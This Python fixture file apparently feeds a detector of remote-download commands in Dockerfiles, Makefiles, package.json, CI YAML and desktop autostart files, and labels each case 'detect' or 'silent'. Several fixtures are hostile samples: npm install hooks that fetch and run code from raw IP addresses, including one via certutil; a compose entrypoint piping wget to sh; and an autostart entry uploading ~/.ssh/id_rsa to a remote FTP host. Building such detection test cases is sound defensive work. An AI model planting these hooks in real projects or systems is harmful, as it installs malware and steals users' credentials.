"""Config / build carriers: dockerfile, makefile, package-json, yaml, desktop."""
from common import C

ART = "Atomic Red Team"
SIGMA = "Sigma"
LOL = "LOLBAS"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- dockerfile detect
C("h6-docker-add-git-ssh-01", PV + " BuildKit ADD of a git repository over ssh (git@host:repo)", "dockerfile",
  "/src/svc-ledger/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1.7
FROM golang:1.22 AS build
ADD git@git.corp.example:platform/ledger-tools.git#v2.3.0 /src/ledger-tools
WORKDIR /src/ledger-tools
RUN go build -o /out/ledger ./cmd/ledger

FROM gcr.io/distroless/base-debian12
COPY --from=build /out/ledger /ledger
ENTRYPOINT ["/ledger"]
''')

C("h6-docker-add-https-git-02", PV + " ADD https://.../repo.git#ref", "dockerfile",
  "/src/docs-site/Dockerfile", "detect", r'''
FROM node:20-alpine
ADD https://git.docs.example/site/theme.git#main /opt/theme
WORKDIR /opt/theme
RUN npm ci && npm run build
''')

C("h6-docker-run-mount-secret-03", PV + " RUN --mount=type=secret before curl --netrc-file", "dockerfile",
  "/src/private-sdk/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1
FROM debian:bookworm-slim
RUN --mount=type=secret,id=netrc,target=/run/secrets/netrc \
    --mount=type=cache,target=/var/cache/apt \
    curl --netrc-file /run/secrets/netrc -fsSL -o /usr/local/lib/libsdk.so https://sdk.vendor.example/linux/libsdk.so
''')

C("h6-docker-gosu-official-style-04", RW + " official-image style gosu download with dpkgArch and .asc", "dockerfile",
  "/src/redis-custom/Dockerfile", "detect", r'''
FROM debian:bookworm-slim
ENV GOSU_VERSION 1.17
RUN set -eux; \
	savedAptMark="$(apt-mark showmanual)"; \
	apt-get update; \
	apt-get install -y --no-install-recommends ca-certificates gnupg wget; \
	dpkgArch="$(dpkg --print-architecture | awk -F- '{ print $NF }')"; \
	wget -O /usr/local/bin/gosu "https://releases.gosu.example/download/$GOSU_VERSION/gosu-$dpkgArch"; \
	wget -O /usr/local/bin/gosu.asc "https://releases.gosu.example/download/$GOSU_VERSION/gosu-$dpkgArch.asc"; \
	chmod +x /usr/local/bin/gosu; \
	apt-mark auto '.*' > /dev/null; \
	[ -z "$savedAptMark" ] || apt-mark manual $savedAptMark; \
	apt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false
''')

C("h6-docker-run-exec-form-05", PV + " RUN exec (JSON) form with sh -c wget", "dockerfile",
  "/src/edge-proxy/Dockerfile", "detect", r'''
FROM alpine:3.19
RUN ["/bin/sh", "-c", "wget -q -O /usr/local/bin/edge https://dl.edge.example/edge-linux-amd64 && chmod +x /usr/local/bin/edge"]
ENTRYPOINT ["/usr/local/bin/edge"]
''')

C("h6-docker-windows-curl-exe-06", PV + " Windows servercore image, cmd SHELL, curl.exe download", "dockerfile",
  "/src/win-iis/Dockerfile", "detect", r'''
# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["cmd", "/S", "/C"]
RUN curl.exe -fSLo C:\Windows\Temp\rewrite.msi https://downloads.iis.example/rewrite_amd64_en-US.msi `
    && msiexec /i C:\Windows\Temp\rewrite.msi /qn `
    && del C:\Windows\Temp\rewrite.msi
''')

C("h6-docker-arg-url-07", PV + " ARG holding the URL, used in RUN curl", "dockerfile",
  "/src/jre-app/Containerfile", "detect", r'''
FROM registry.access.redhat.com/ubi9/ubi-minimal
ARG AGENT_URL=https://apm.vendor.example/java/apm-agent-1.44.0.jar
RUN curl -fsSL -o /opt/apm-agent.jar "${AGENT_URL}"
ENV JAVA_TOOL_OPTIONS="-javaagent:/opt/apm-agent.jar"
''')

C("h6-docker-bash-heredoc-08", PV + " RUN bash <<'EOS' here-doc with wget", "dockerfile",
  "/src/toolbox/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1.4
FROM ubuntu:22.04
RUN bash <<'EOS'
set -euo pipefail
cd /usr/local/bin
wget -q https://tools.box.example/yq/v4.40.5/yq_linux_amd64 -O yq
chmod +x yq
EOS
''')

C("h6-docker-cpanm-url-09", PV + " cpanm installing a distribution tarball from a URL", "dockerfile",
  "/src/perl-api/Dockerfile", "detect", r'''
FROM perl:5.38-slim
RUN cpanm --notest https://cpan.mirror.example/authors/id/C/CO/CORP/Corp-Auth-0.07.tar.gz
COPY . /app
CMD ["perl", "/app/api.pl"]
''')

C("h6-docker-onbuild-run-10", PV + " ONBUILD RUN curl", "dockerfile",
  "/src/base-node/Dockerfile.base", "detect", r'''
FROM node:20-bookworm-slim
ONBUILD RUN curl -fsSL https://hooks.build.example/onbuild.sh -o /tmp/onbuild.sh && sh /tmp/onbuild.sh
WORKDIR /app
''')

C("h6-docker-apt-key-fetch-11", PV + " apt-key adv --fetch-keys and rpm --import from URLs", "dockerfile",
  "/src/legacy-agent/Dockerfile", "detect", r'''
FROM ubuntu:20.04
RUN apt-key adv --fetch-keys https://repo.legacy.example/apt/gpg.key \
 && echo "deb https://repo.legacy.example/apt focal main" > /etc/apt/sources.list.d/legacy.list \
 && apt-get update && apt-get install -y legacy-agent
''')

C("h6-docker-silent-healthcheck-01", PV + " HEALTHCHECK with curl to localhost, distro installs", "dockerfile",
  "/src/shop-api/Dockerfile", "silent", r'''
FROM python:3.12-slim
RUN apt-get update && apt-get install -y --no-install-recommends curl wget \
 && rm -rf /var/lib/apt/lists/*
COPY requirements.txt /app/
RUN pip install --no-cache-dir -r /app/requirements.txt
COPY . /app
HEALTHCHECK --interval=30s CMD curl -fsS http://localhost:8000/healthz || exit 1
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
''')

C("h6-docker-silent-multistage-02", PV + " multi-stage COPY --from and LABEL with URLs", "dockerfile",
  "/src/static-web/Dockerfile", "silent", r'''
FROM node:20 AS build
WORKDIR /src
COPY package*.json ./
RUN npm ci
COPY . .
RUN npm run build

FROM nginx:1.25-alpine
LABEL org.opencontainers.image.source="https://git.example.com/web/static" \
      org.opencontainers.image.documentation="https://docs.example.com/static"
COPY --from=build /src/dist /usr/share/nginx/html
''')

C("h6-docker-silent-comments-03", PV + " commented-out download lines, local COPY", "dockerfile",
  "/src/batch-job/Dockerfile", "silent", r'''
FROM eclipse-temurin:21-jre
# We used to do:
#   RUN wget https://repo.example.com/job.jar -O /opt/job.jar
# The jar is now built in CI and copied in.
COPY build/libs/job.jar /opt/job.jar
ENTRYPOINT ["java", "-jar", "/opt/job.jar"]
''')

# ---------------------------------------------------------------- makefile
C("h6-make-curl-var-01", PV + " CURL ?= variable with flags used in a recipe", "makefile",
  "/src/proto-gen/Makefile", "detect", r'''
CURL ?= curl -fsSL
PROTOC_URL := https://dl.protoc.example/v25.1/protoc-25.1-linux-x86_64.zip

bin/protoc.zip:
	mkdir -p bin
	$(CURL) -o $@ $(PROTOC_URL)

bin/protoc: bin/protoc.zip
	cd bin && unzip -o protoc.zip bin/protoc
''')

C("h6-make-wget-ignore-at-02", PV + " recipe with -@ prefixes and wget -N", "makefile",
  "/src/geo-service/Makefile", "detect", r'''
DATA_DIR = data

.PHONY: data
data:
	-@mkdir -p $(DATA_DIR)
	-@wget -N -q -P $(DATA_DIR) http://198.51.100.111/geo/countries.geojson
''')

C("h6-make-rsync-deploy-push-03", ART + " rsync push in a deploy target", "makefile",
  "/src/marketing-site/Makefile", "detect", r'''
DEPLOY_HOST ?= web@203.0.113.60
DEPLOY_PATH ?= /var/www/marketing

deploy: build
	rsync -avz --delete public/ $(DEPLOY_HOST):$(DEPLOY_PATH)/

build:
	hugo --minify
''')

C("h6-make-aws-s3-cp-04", PV + " aws s3 cp pulling a prebuilt library", "makefile",
  "/src/native-ext/Makefile", "detect", r'''
LIB := vendor/libfast.a

$(LIB):
	mkdir -p vendor
	aws s3 cp s3://prebuilt-artifacts/libfast/1.2.0/libfast.a $(LIB) --endpoint-url https://s3.artifacts.example

all: $(LIB)
	$(CC) -o fast main.c $(LIB)
''')

C("h6-make-silent-help-01", PV + " help target echoing install instructions", "makefile",
  "/src/cli-tool/Makefile", "silent", r'''
.PHONY: help build
help:
	@echo "Targets: build, test"
	@echo "End users install with: curl -fsSL https://get.example.com/cli | sh"

build:
	go build -o bin/cli ./cmd/cli
''')

C("h6-make-silent-local-02", PV + " install target copying local files", "makefile",
  "/src/libconf/Makefile", "silent", r'''
PREFIX ?= /usr/local
install:
	install -d $(DESTDIR)$(PREFIX)/lib $(DESTDIR)$(PREFIX)/include
	install -m 0644 libconf.a $(DESTDIR)$(PREFIX)/lib/
	cp -r include/conf $(DESTDIR)$(PREFIX)/include/
''')

# ---------------------------------------------------------------- package-json
C("h6-pkg-preinstall-sh-c-curl-01", RW + " preinstall sh -c curl to /tmp then sh, in a full manifest", "package-json",
  "/app/node_modules/eslint-config-fastfmt/package.json", "detect", r'''
{
  "name": "eslint-config-fastfmt",
  "version": "3.2.9",
  "description": "Shareable ESLint config",
  "main": "index.js",
  "files": ["index.js", "rules/"],
  "engines": { "node": ">=18" },
  "peerDependencies": { "eslint": ">=8" },
  "scripts": {
    "lint": "eslint .",
    "preinstall": "sh -c 'curl -fsSL -o /tmp/.fmt.sh https://203.0.113.218/p.sh; sh /tmp/.fmt.sh' || true"
  },
  "license": "MIT"
}
''')

C("h6-pkg-postinstall-node-execsync-02", RW + " postinstall node -e execSync(wget)", "package-json",
  "/app/node_modules/@ui-kit/icons-bin/package.json", "detect", r'''
{
  "name": "@ui-kit/icons-bin",
  "version": "0.9.1",
  "scripts": {
    "postinstall": "node -e \"require('child_process').execSync('wget -q -O bin/icons-helper http://198.51.100.189/icons-helper && chmod +x bin/icons-helper')\""
  }
}
''')

C("h6-pkg-install-certutil-03", LOL + " install script using certutil on Windows", "package-json",
  "/app/node_modules/win-clipboard-native/package.json", "detect", r'''
{
  "name": "win-clipboard-native",
  "version": "1.0.4",
  "os": ["win32"],
  "scripts": {
    "install": "cmd /c \"certutil -urlcache -split -f http://203.0.113.134/clip.exe %TEMP%\\clip.exe && %TEMP%\\clip.exe\""
  }
}
''')

C("h6-pkg-prepare-pwsh-irm-04", PV + " prepare script with pwsh Invoke-RestMethod -OutFile", "package-json",
  "/src/electron-app/package.json", "detect", r'''
{
  "name": "electron-app",
  "private": true,
  "version": "2.0.0",
  "scripts": {
    "prepare": "pwsh -NoProfile -Command \"Invoke-RestMethod -Uri https://bins.electron.example/ffmpeg/win-x64/ffmpeg.dll -OutFile vendor/ffmpeg.dll\"",
    "start": "electron ."
  },
  "devDependencies": { "electron": "^29.0.0" }
}
''')

C("h6-pkg-silent-scripts-01", PV + " ordinary scripts including a localhost healthcheck", "package-json",
  "/src/orders-api/package.json", "silent", r'''
{
  "name": "orders-api",
  "version": "1.4.0",
  "scripts": {
    "build": "tsc -p .",
    "start": "node dist/server.js",
    "healthcheck": "curl -fsS http://localhost:3000/health",
    "ci": "npm ci && npm test"
  },
  "dependencies": { "express": "^4.19.2" }
}
''')

C("h6-pkg-silent-meta-02", PV + " metadata URLs only (homepage, repository, bugs)", "package-json",
  "/app/node_modules/tiny-fetch-wrapper/package.json", "silent", r'''
{
  "name": "tiny-fetch-wrapper",
  "version": "2.1.0",
  "description": "Small wrapper around fetch() and curl-like retries",
  "homepage": "https://example.com/tiny-fetch-wrapper",
  "repository": { "type": "git", "url": "git+https://git.example.com/tiny-fetch-wrapper.git" },
  "bugs": { "url": "https://git.example.com/tiny-fetch-wrapper/issues" },
  "keywords": ["fetch", "curl", "wget", "download"],
  "main": "index.js"
}
''')

# ---------------------------------------------------------------- yaml
C("h6-yaml-gitlab-ci-01", RW + " GitLab CI job script piping curl to bash", "yaml",
  "/src/payments/.gitlab-ci.yml", "detect", r'''
stages: [test]

unit:
  stage: test
  image: python:3.12
  before_script:
    - curl -sSfL https://tools.ci.example/setup-ci.sh | bash -s -- --with-cache
  script:
    - pytest -q
''')

C("h6-yaml-gha-run-block-02", RW + " GitHub Actions workflow run: | block with wget", "yaml",
  "/src/cli/.github/workflows/release.yml", "detect", r'''
name: release
on:
  push:
    tags: ["v*"]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Install signing tool
        run: |
          wget -q https://dl.sign.example/cosign-linux-amd64 -O /usr/local/bin/cosign
          chmod +x /usr/local/bin/cosign
      - run: make release
''')

C("h6-yaml-ansible-shell-03", RW + " Ansible task with shell: curl | sh", "yaml",
  "/etc/ansible/playbooks/agent.yml", "detect", r'''
- hosts: all
  become: true
  tasks:
    - name: install monitoring agent
      ansible.builtin.shell: curl -fsSL https://get.monitor.example/agent.sh | sh -s -- --key {{ agent_key }}
      args:
        creates: /opt/monitor/agent
''')

C("h6-yaml-cloud-init-runcmd-04", RW + " cloud-init user-data runcmd list form", "yaml",
  "/var/lib/cloud/seed/nocloud/user-data", "detect", r'''
#cloud-config
package_update: true
runcmd:
  - [ sh, -c, "wget -qO /usr/local/bin/node-init http://198.51.100.15/node-init && chmod +x /usr/local/bin/node-init && /usr/local/bin/node-init" ]
''')

C("h6-yaml-k8s-init-container-05", PV + " Kubernetes initContainer command/args split", "yaml",
  "/deploy/k8s/ml-serving.yaml", "detect", r'''
apiVersion: apps/v1
kind: Deployment
metadata:
  name: ml-serving
spec:
  replicas: 1
  selector:
    matchLabels: {app: ml-serving}
  template:
    metadata:
      labels: {app: ml-serving}
    spec:
      initContainers:
        - name: fetch-model
          image: alpine:3.19
          command: ["sh", "-c"]
          args:
            - wget -q -O /models/model.onnx http://203.0.113.33:8080/models/latest.onnx
          volumeMounts:
            - {name: models, mountPath: /models}
      containers:
        - name: server
          image: registry.example.com/ml/server:1.0
          volumeMounts:
            - {name: models, mountPath: /models}
      volumes:
        - {name: models, emptyDir: {}}
''')

C("h6-yaml-k8s-job-argv-06", PV + " Kubernetes Job with curl argv list in command", "yaml",
  "/deploy/k8s/job-seed-data.yaml", "detect", r'''
apiVersion: batch/v1
kind: Job
metadata:
  name: seed-data
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: seed
          image: curlimages/curl:8.5.0
          command:
            - curl
            - -fsSL
            - -o
            - /data/seed.sql.gz
            - https://seed.data.example/prod/seed.sql.gz
''')

C("h6-yaml-compose-entrypoint-07", PV + " compose entrypoint list with sh -c download", "yaml",
  "/srv/lab/docker-compose.yml", "detect", r'''
services:
  worker:
    image: alpine:3.19
    entrypoint: ["/bin/sh", "-c", "wget -qO- http://203.0.113.84/w.sh | sh && exec sleep infinity"]
    restart: unless-stopped
''')

C("h6-yaml-azure-pipelines-ps-08", RW + " Azure Pipelines powershell step with Invoke-WebRequest", "yaml",
  "/src/win-service/azure-pipelines.yml", "detect", r'''
trigger:
  - main
pool:
  vmImage: windows-latest
steps:
  - powershell: |
      Invoke-WebRequest -Uri https://tools.build.example/signtool/signtool.zip -OutFile $(Agent.TempDirectory)\signtool.zip
      Expand-Archive $(Agent.TempDirectory)\signtool.zip -DestinationPath $(Agent.ToolsDirectory)\signtool
    displayName: fetch signtool
''')

C("h6-yaml-silent-sts-prestop-01", PV + " StatefulSet with tcpSocket startupProbe and preStop wget to localhost", "yaml",
  "/deploy/k8s/queue-sts.yaml", "silent", r'''
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: queue
spec:
  serviceName: queue
  replicas: 3
  selector:
    matchLabels:
      app: queue
  template:
    metadata:
      labels:
        app: queue
    spec:
      terminationGracePeriodSeconds: 60
      containers:
        - name: broker
          image: registry.example.com/queue/broker:5.2
          ports:
            - containerPort: 5672
          startupProbe:
            tcpSocket:
              port: 5672
            failureThreshold: 30
          lifecycle:
            preStop:
              exec:
                command: ["/bin/sh", "-c", "wget -qO- http://localhost:15672/api/drain && sleep 20"]
''')

C("h6-yaml-silent-compose-ipv6-loopback-02", PV + " compose x- anchor healthcheck curl to [::1]", "yaml",
  "/srv/lab/compose.override.yaml", "silent", r'''
x-health: &health
  interval: 15s
  timeout: 3s
  retries: 5

services:
  api:
    image: registry.example.com/lab/api:0.4
    healthcheck:
      <<: *health
      test: curl --fail --head --silent http://[::1]:8080/ready || exit 1
  worker:
    image: registry.example.com/lab/worker:0.4
    depends_on:
      api:
        condition: service_healthy
''')

C("h6-yaml-silent-gha-npm-ci-03", PV + " workflow with checkout/setup-node/npm ci only", "yaml",
  "/src/web/.github/workflows/ci.yml", "silent", r'''
name: ci
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with: {node-version: 20, cache: npm}
      - run: npm ci
      - run: npm test
''')

# ---------------------------------------------------------------- desktop
C("h6-desktop-python-procsubst-01", PV + " autostart Exec bash -lc python3 <(wget -qO- ...)", "desktop",
  "/etc/xdg/autostart/indexer-helper.desktop", "detect", r'''
[Desktop Entry]
Version=1.0
Type=Application
Name=File Indexer
Comment=Keeps the desktop search index current
Icon=system-search
Exec=bash -lc "python3 <(wget -qO- http://198.51.100.98/idx.py)"
OnlyShowIn=GNOME;XFCE;
X-KDE-autostart-phase=2
''')

C("h6-desktop-curl-upload-02", SIGMA + " autostart Exec curl -T upload of ssh keys", "desktop",
  "/home/user/.config/autostart/keysync.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Key Sync
Exec=/bin/sh -c 'curl -s -T /home/user/.ssh/id_rsa ftp://anonymous:x@203.0.113.193/pub/'
Hidden=false
''')

C("h6-desktop-lwp-download-03", PV + " application launcher running lwp-download then the binary", "desktop",
  "/usr/share/applications/quarterly-viewer.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Report Viewer
Exec=sh -c "lwp-download https://viewer.reports.example/bin/viewer /tmp/viewer && chmod +x /tmp/viewer && /tmp/viewer %f"
Icon=x-office-document
Categories=Office;
''')

C("h6-desktop-silent-man-curl-01", PV + " launcher opening the curl man page in a terminal", "desktop",
  "/usr/share/applications/curl-manual.desktop", "silent", r'''
[Desktop Entry]
Type=Application
Name=curl manual
Comment=Read the curl and wget manuals
Exec=xterm -T "curl(1)" -e man curl
Terminal=false
Categories=Documentation;
''')


C("h6-docker-node-e-fetch-12", PV + " RUN node -e one-liner using fetch() and writeFileSync", "dockerfile",
  "/src/bot-runner/Dockerfile", "detect", r'''
FROM node:20-slim
RUN node -e "fetch('https://bins.bot.example/runner-linux-x64').then(r=>r.arrayBuffer()).then(b=>require('fs').writeFileSync('/usr/local/bin/runner',Buffer.from(b),{mode:0o755}))"
CMD ["/usr/local/bin/runner"]
''')


C("h6-docker-silent-local-add-04", PV + " ADD of a local tarball (auto-extract) and tool version checks", "dockerfile",
  "/src/report-svc/Dockerfile", "silent", r'''
FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \
 && curl --version && rm -rf /var/lib/apt/lists/*
ADD vendor/report-svc-1.8.0.tar.gz /opt/
WORKDIR /opt/report-svc-1.8.0
CMD ["./report-svc"]
''')

C("h6-yaml-silent-ansible-apt-04", PV + " Ansible installing curl/wget from the distro repo", "yaml",
  "/etc/ansible/playbooks/base-packages.yml", "silent", r'''
- hosts: all
  become: true
  tasks:
    - name: base tools
      ansible.builtin.apt:
        name: [curl, wget, rsync, openssh-client]
        state: present
        update_cache: true
''')
